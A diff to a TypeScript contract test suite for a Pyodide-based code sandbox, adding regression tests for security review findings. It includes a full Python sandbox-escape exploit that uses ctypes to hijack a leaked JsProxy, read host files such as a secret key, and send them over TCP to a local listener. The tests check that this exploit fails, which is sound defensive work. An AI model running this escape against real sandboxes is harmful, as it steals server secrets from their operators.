@@ -3,6 +3,10 @@
 import type { ScorerArguments } from '@tracelight/domain';
 import type { CodeSandbox, CodeSource } from '@tracelight/ports';
 import * as E from 'fp-ts/Either';
+import * as fs from 'node:fs';
+import * as net from 'node:net';
+import * as os from 'node:os';
+import * as path from 'node:path';
 
 export interface CodeSandboxContractOptions {
   /** The sandbox's time limit for one call, as it was made with. */
@@ -72,7 +76,9 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
       const syntax = await sandbox.inspect(scorerFile('import re\n\ndef scorer_fn(**kwargs)\n    return 1\n'))();
       expect(syntax).toEqual(E.left({ kind: 'syntax', line: 3, message: expect.stringContaining('SyntaxError') }));
       const raised = await sandbox.inspect(scorerFile('x = 1\ny = x / 0\n'))();
-      expect(raised).toEqual(E.left({ kind: 'exception', line: 2, message: 'ZeroDivisionError: division by zero', traceback: expect.stringContaining('line 2') }));
+      expect(raised).toEqual(
+        E.left({ kind: 'exception', line: 2, message: 'ZeroDivisionError: division by zero', traceback: expect.stringContaining('line 2'), errorType: 'ZeroDivisionError' }),
+      );
     });
 
     it('calls scorer_fn with the record\'s arguments', async () => {
@@ -95,7 +101,7 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
 
     it('answers an exception with its message, its traceback from the scorer\'s frames, and the line it was raised at', async () => {
       const r = await sandbox.score(scorerFile('def helper(x):\n    raise ValueError(f"bad {x}")\n\ndef scorer_fn(**kwargs):\n    return helper(kwargs["index"])\n'), ARGS)();
-      expect(r).toEqual(E.left({ kind: 'exception', message: 'ValueError: bad rec-1', line: 2, traceback: expect.stringContaining('ValueError: bad rec-1') }));
+      expect(r).toEqual(E.left({ kind: 'exception', message: 'ValueError: bad rec-1', line: 2, traceback: expect.stringContaining('ValueError: bad rec-1'), errorType: 'ValueError' }));
       if (E.isLeft(r) && r.left.kind === 'exception') {
         expect(r.left.traceback).toMatch(/line 5, in scorer_fn[\s\S]*line 2, in helper/);
         // The file's own lines are quoted, as Python quotes a file's.
@@ -154,6 +160,74 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
       expect(await text("import builtins\nreturn repr(getattr(builtins, 'left_behind', None))", 'tenant-a')).toBe(repr(ARGS.node_output));
     });
 
+    it('keeps a scorer that rewrites a leaked JavaScript proxy with ctypes (H1) from the host\'s files and the network', async () => {
+      // The reviewer's exploit, as uploaded: it read the server's secret key and sent it over TCP.
+      const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tracelight-contract-')));
+      const secret = path.join(dir, 'secret.key');
+      fs.writeFileSync(secret, 'the-server-secret-key');
+      const received: string[] = [];
+      const listener = net.createServer((s) => {
+        received.push('connected');
+        s.on('data', (d: Buffer) => received.push(d.toString('utf8')));
+        s.on('error', () => undefined);
+      });
+      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+      const port = (listener.address() as net.AddressInfo).port;
+      try {
+        const uploaded = await sandbox.inspect(scorerFile(sandboxEscapeExploit([secret], port), 'tenant-h1'))();
+        // Whatever the upload answered (the sandbox may refuse the file), what the exploit got is asked for
+        // in the same interpreter, a few times (its steps ran on the runtime's promises, after the upload).
+        let stolen = '';
+        for (let i = 0; i < 8 && !/secret|ERR/.test(stolen); i++) {
+          await new Promise((resolve) => setTimeout(resolve, 250));
+          stolen = await text("import builtins\nreturn repr(getattr(builtins, '_stolen', None))", 'tenant-h1');
+        }
+        expect(JSON.stringify(uploaded)).not.toContain('the-server-secret-key');
+        expect(stolen).not.toContain('the-server-secret-key');
+        expect(received).toEqual([]);
+      } finally {
+        listener.close();
+        fs.rmSync(dir, { recursive: true, force: true });
+      }
+    });
+
+    it('gives Python no way to write memory or reach the JavaScript proxies it was left: ctypes, the package loader, the event loop', async () => {
+      for (const module of ['ctypes', '_ctypes', 'pyodide._package_loader', 'pyodide.webloop', '_pyodide_core'])
+        expect(await text(`try:\n    import ${module}\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__`)).toBe('ModuleNotFoundError');
+      expect(await text("try:\n    from pyodide.ffi import create_proxy\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__")).toBe('ImportError');
+      // _ctypes loaded around the import statement: its memory access still refused.
+      expect(
+        await text(
+          "import importlib\ntry:\n    m = importlib.import_module('_ctypes')\n    class U(m._SimpleCData):\n        _type_ = 'I'\n    U.from_address(id(m))\n    return 'read'\nexcept Exception as e:\n    return type(e).__name__",
+        ),
+      ).toMatch(/^(ModuleNotFoundError|PermissionError)$/);
+    });
+
+    it('lets no code run on after its call answered (M1): a callback scheduled to spin does not take the next call\'s time', async () => {
+      const spin = 'import pyodide.webloop as wl\nfrom pyodide.ffi import create_proxy\ndef spin(*a):\n    while True: pass\nwl.scheduleCallback(create_proxy(spin), 10)\ndef scorer_fn(**kw): return 1\n';
+      await sandbox.inspect(scorerFile(spin, 'tenant-m1'))();
+      const asyncio = scorerBody('import asyncio\nasync def spin():\n    while True: pass\ntry:\n    asyncio.ensure_future(spin())\nexcept Exception:\n    pass\nreturn 1');
+      expect(await sandbox.score(scorerFile(asyncio, 'tenant-m1'), ARGS)()).toEqual(E.right({ type: 'int', value: 1 }));
+      expect(await scored('return 2', 'tenant-m1')).toEqual(E.right({ type: 'int', value: 2 }));
+    });
+
+    it('carries no str value longer than 4096 characters out of the sandbox (M2): its length says it', async () => {
+      expect(await scored("return 'é' * 4096")).toEqual(E.right({ type: 'str', value: 'é'.repeat(4096) }));
+      expect(await scored("return 'x' * 50_000_000")).toEqual(E.right({ type: 'str_too_long', length: 50_000_000 }));
+    });
+
+    it('bounds what it says of a scorer (M3, L2): a type\'s name, an exception\'s message and traceback, and the type alone as a name', async () => {
+      const other = await scored("return type('Q' * 5_000_000, (), {})()");
+      expect(E.isRight(other) && other.right.type === 'other' && other.right.typeName.length).toBeLessThanOrEqual(80);
+      const raised = await scored("raise ValueError('bad record\\n' + node_output + '\\n' + 'y' * 5_000_000)");
+      if (E.isRight(raised) || raised.left.kind !== 'exception') throw new Error(`expected an exception: ${JSON.stringify(raised).slice(0, 300)}`);
+      expect(raised.left.errorType).toBe('ValueError');
+      expect(raised.left.message.length).toBeLessThanOrEqual(2_000);
+      expect(raised.left.traceback.length).toBeLessThanOrEqual(8_000);
+      const named = await scored("class Bad(Exception): pass\nBad.__qualname__ = 'x y ' + node_output\nraise Bad('z')");
+      expect(named).toMatchObject(E.left({ kind: 'exception', errorType: null }));
+    });
+
     it('ends a call that allocates past its memory with a MemoryError, the interpreter going on', async () => {
       const r = await scored('x = bytearray(1024 ** 3)\nreturn len(x)');
       expect(r).toMatchObject(E.left({ kind: 'exception', message: 'MemoryError' }));
@@ -168,5 +242,48 @@ export const describeCodeSandboxContract = (name: string, make: () => CodeSandbo
     });
   });
 };
+
+/**
+ * The review's H1 exploit, as a scorer file: it retargets a JsProxy Python was left holding to the
+ * runtime's API object (with ctypes), reads `files` through the API's loadBinaryFile and sends what it
+ * read to 127.0.0.1:`port` through the API's sockets; what it got is left in `builtins._stolen`. On the
+ * code it was found on, the upload alone ran it and the listener received the server's secret key.
+ */
+export const sandboxEscapeExploit = (files: ReadonlyArray<string>, port: number): string => String.raw`import builtins, ctypes, socket
+import pyodide._package_loader as pl
+from pyodide.ffi import create_proxy
+st = builtins.__dict__.setdefault('_stolen', {'log': [], 'data': b''})
+lp = pl.loadedPackages
+cell = ctypes.c_uint32.from_address(id(lp) + 36)
+API = None
+# 67108875: the runtime API object's ref in the build the exploit was found on; else the refs near it.
+for ref in [67108875] + list(range(0x4000000, 0x4000000 + 400)):
+    cell.value = ref
+    try:
+        lp.loadBinaryFile
+        lp.initializeNodeSockFS
+        API = lp
+        break
+    except Exception:
+        pass
+def got(name):
+    def f(buf):
+        st['data'] += b'== ' + name.encode() + b'\n' + bytes(buf.to_py()) + b'\n'
+    return f
+def err(e):
+    st['log'].append('ERR ' + str(e))
+def send(_=None):
+    API._nodeSock.send(st['fd'], b'stolen:' + st['data']); st['s'].close()
+def connect(_=None):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); st['s'] = s; st['fd'] = s.fileno()
+    API._nodeSock.connect(s.fileno(), '127.0.0.1', ${port}).then(create_proxy(send)).catch(create_proxy(err))
+if API is not None:
+    p = None
+    for path in ${JSON.stringify(files)}:
+        read = (lambda path: lambda _=None: API.loadBinaryFile(path).then(create_proxy(got(path))).catch(create_proxy(err)))(path)
+        p = read() if p is None else p.then(create_proxy(read))
+    p.then(create_proxy(lambda _: API.initializeNodeSockFS().then(create_proxy(connect)).catch(create_proxy(err))))
+def scorer_fn(**kw): return 1
+`;
 
 const repr = (s: string): string => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
